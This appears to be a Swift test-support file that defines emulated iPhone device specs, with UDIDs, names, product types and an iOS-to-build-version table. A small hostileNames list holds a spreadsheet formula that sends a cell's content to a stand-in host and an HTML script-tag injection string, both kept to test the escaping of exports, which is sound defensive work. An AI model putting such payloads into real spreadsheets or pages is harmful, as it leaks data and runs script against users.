import LaunchBench

/// Who an emulated iPhone says it is: the lockdown values the real libimobiledevice reads.
package struct EmulatedDeviceSpec: Sendable, Hashable {
    /// Dashed 25-character form (`00008030-001A2D4E0C38802E`), as libusbmuxd reports modern UDIDs.
    package var udid: String
    package var name: String
    package var productType: String
    package var osVersion: String
    package var buildVersion: String

    package init(udid: String, name: String, productType: String, osVersion: String, buildVersion: String? = nil) {
        self.udid = udid
        self.name = name
        self.productType = productType
        self.osVersion = osVersion
        self.buildVersion = buildVersion ?? Self.buildVersion(for: osVersion)
    }

    /// A device numbered `index` (1-based) with a stable, distinct UDID.
    package static func numbered(_ index: Int, productType: String, osVersion: String) -> EmulatedDeviceSpec {
        let model = DeviceModels.marketingName(for: productType)
        let serial = String(UInt64(0x001A_2D4E_0C38_8000) &+ UInt64(index), radix: 16, uppercase: true)
        let padded = String(repeating: "0", count: max(0, 16 - serial.count)) + serial
        return EmulatedDeviceSpec(
            udid: "00008030-\(padded)", name: "Emulated \(model) #\(index)", productType: productType,
            osVersion: osVersion)
    }

    /// Device names that attack the exports (users set device names, and lockdown reports them verbatim):
    /// a spreadsheet formula, and HTML markup with quotes, an ampersand and a comma.
    package static let hostileNames = [
        "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Open me\")",
        "<script>alert(\"pwned\")</script> & \"Bob's\", <b>iPhone</b>",
    ]

    /// The same device under another name (`DeviceName`).
    package func named(_ name: String) -> EmulatedDeviceSpec {
        var copy = self
        copy.name = name
        return copy
    }

    /// The device as the core model sees it.
    package var info: DeviceInfo {
        DeviceInfo(udid: udid, name: name, productType: productType, osVersion: osVersion, buildVersion: buildVersion)
    }

    /// The last public build of an iOS version (a plausible value for lockdown's BuildVersion).
    static func buildVersion(for osVersion: String) -> String {
        let known = [
            "9.3.5": "13G36", "10.3.4": "14G61", "11.4.1": "15G77", "12.5.7": "16H81", "13.7": "17H35",
            "14.8": "18H17", "14.8.1": "18H107", "15.7": "19H12", "15.8": "19H370", "16.7": "20H19",
            "17.0": "21A329", "17.5": "21F79", "18.6": "22G86", "26.1": "23B85",
        ]
        if let build = known[osVersion] { return build }
        let major = OSVersion(osVersion)?.major ?? 14
        // iOS 26 followed 18 (year-named): its builds are 23x, one on from 18's 22x.
        return "\(major >= 26 ? major - 3 : major + 4)A100"
    }
}
